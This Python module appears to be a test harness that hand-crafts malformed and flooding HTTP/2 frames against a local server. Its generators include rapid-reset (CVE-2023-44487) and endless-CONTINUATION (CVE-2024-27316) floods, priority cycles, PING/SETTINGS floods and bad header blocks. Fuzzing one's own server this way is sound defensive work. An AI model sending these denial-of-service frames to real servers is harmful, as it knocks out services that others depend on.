"""HTTP/2 as an attacker writes it: frames made by hand. Rule: each attack is a few writes, and is over by itself.

Spec: RFC 9113, sections 4 and 6; RFC 7541, section 6.2.2 for header fields.
"""

import random
from collections.abc import Callable, Iterator, Sequence
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA: Final = 0x0
HEADERS: Final = 0x1
PRIORITY: Final = 0x2
RST_STREAM: Final = 0x3
SETTINGS: Final = 0x4
PING: Final = 0x6
WINDOW_UPDATE: Final = 0x8
CONTINUATION: Final = 0x9
END_STREAM: Final = 0x1
END_HEADERS: Final = 0x4
_FLOOD: Final = 500
_POST: Final = ((b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"127.0.0.1:8000"))

Attack = Callable[[random.Random], Iterator[bytes]]
"""The writes of an attack that follow the preface and the settings."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def fields(*pairs: tuple[bytes, bytes]) -> bytes:
    """A header block of literals that nobody remembers; names and values of up to 126 bytes."""
    return b"".join(b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in pairs)


def _headers(stream: int, *pairs: tuple[bytes, bytes], flags: int = END_HEADERS) -> bytes:
    return frame(HEADERS, flags, stream, fields(*pairs))


def garbage(source: random.Random) -> Iterator[bytes]:
    """Bytes that happen to be frames, if they are."""
    yield source.randbytes(source.randint(9, 4000))


def garbled_frames(source: random.Random) -> Iterator[bytes]:
    """Frames of any kind with any flags and contents."""
    for _ in range(20):
        yield frame(source.randrange(12), source.randrange(256), source.randrange(8), source.randbytes(20))


def priorities(source: random.Random) -> Iterator[bytes]:
    """More streams than a tree of priorities has room for, none of which was opened, each below another one."""
    for first in range(0, 4 * _FLOOD, _FLOOD):
        yield b"".join(
            _priority(2 * number + 1, below=2 * source.randrange(number + 1)) for number in range(first, first + _FLOOD)
        )


def priorities_in_circles(source: random.Random) -> Iterator[bytes]:
    """A stream below itself, or two below each other."""
    below = source.choice((1, 3))
    yield _priority(1, below=below) + _priority(3, below=1) + _priority(1, below=3)
    yield _headers(below, *_POST, (b":path", b"/mcp")) + _priority(below, below=below)


def _priority(stream: int, *, below: int) -> bytes:
    return frame(PRIORITY, 0, stream, below.to_bytes(4, "big") + b"\x0f")


def data_after_the_answer(source: random.Random) -> Iterator[bytes]:
    """A request that is refused by its head, and whose body comes nevertheless."""
    path = source.choice((b"/nowhere", b"/mcp"))
    yield _headers(1, *_POST, (b":path", path), (b"content-type", b"text/plain"), (b"content-length", b"99999"))
    for _ in range(6):
        yield frame(DATA, 0, 1, b" " * 8000)
    yield frame(DATA, END_STREAM, 1)
    yield frame(DATA, 0, 1, b"more")


def connects(_source: random.Random) -> Iterator[bytes]:
    """CONNECT, which has neither scheme nor path; and with a protocol. RFC 8441."""
    yield _headers(1, (b":method", b"CONNECT"), (b":authority", b"127.0.0.1:1"))
    yield frame(DATA, 0, 1, b"through")
    yield _headers(3, (b":method", b"CONNECT"), (b":protocol", b"websocket"), *_POST[1:], (b":path", b"/mcp"))


def malformed_heads(source: random.Random) -> Iterator[bytes]:
    """Requests that lack something, have it twice, or have bytes that no header has."""
    heads: Sequence[tuple[tuple[bytes, bytes], ...]] = (
        (),
        _POST,
        _POST[1:],
        (*_POST, (b":path", b"")),
        (*_POST, (b":path", b"*")),
        (*_POST, (b":path", b"/mcp"), (b":path", b"/mcp")),
        (*_POST, (b":path", b"/\xff\xfe"), (b"x-\xe9", b"\x80")),
        (*_POST, (b":path", b"/mcp"), (b"Upper", b"a"), (b"connection", b"close")),
        (*_POST, (b":path", b"/mcp"), (b"content-length", b"-1")),
        (*_POST[:2], (b":authority", b"\xff\xff"), (b":path", b"http://[::1")),
    )
    yield _headers(1, *source.choice(heads), flags=END_HEADERS | END_STREAM)
    yield frame(HEADERS, END_HEADERS | END_STREAM, 3, source.randbytes(30))


def rapid_resets(_source: random.Random) -> Iterator[bytes]:
    """Requests that are taken back at once (CVE-2023-44487)."""
    for first in range(0, _FLOOD, 100):
        yield b"".join(
            _headers(2 * number + 1, *_POST, (b":path", b"/mcp"))
            + frame(RST_STREAM, 0, 2 * number + 1, (8).to_bytes(4, "big"))
            for number in range(first, first + 100)
        )


def endless_head(source: random.Random) -> Iterator[bytes]:
    """A head that goes on and on (CVE-2024-27316)."""
    yield _headers(1, *_POST, (b":path", b"/mcp"), flags=0)
    for number in range(200):
        yield frame(CONTINUATION, 0, 1, fields((b"x-%d" % number, b"a" * source.randint(1, 120))) * 8)


def floods(source: random.Random) -> Iterator[bytes]:
    """What each has to be answered."""
    one = source.choice((frame(PING, 0, 0, b"12345678"), frame(SETTINGS, 0, 0), frame(SETTINGS, 0, 0, b"\0\4\0\0\0\1")))
    for _ in range(4):
        yield one * _FLOOD


def windows(source: random.Random) -> Iterator[bytes]:
    """Credit of nothing, or of more than there can be; and an answer that finds no room."""
    yield frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
    yield _headers(1, *_POST, (b":path", b"/mcp"), flags=END_HEADERS | END_STREAM)
    yield frame(WINDOW_UPDATE, 0, source.choice((0, 1)), source.choice((b"\0\0\0\0", b"\x7f\xff\xff\xff")))


ATTACKS: Final[tuple[Attack, ...]] = (
    garbage,
    garbled_frames,
    priorities,
    priorities_in_circles,
    data_after_the_answer,
    connects,
    malformed_heads,
    rapid_resets,
    endless_head,
    floods,
    windows,
)
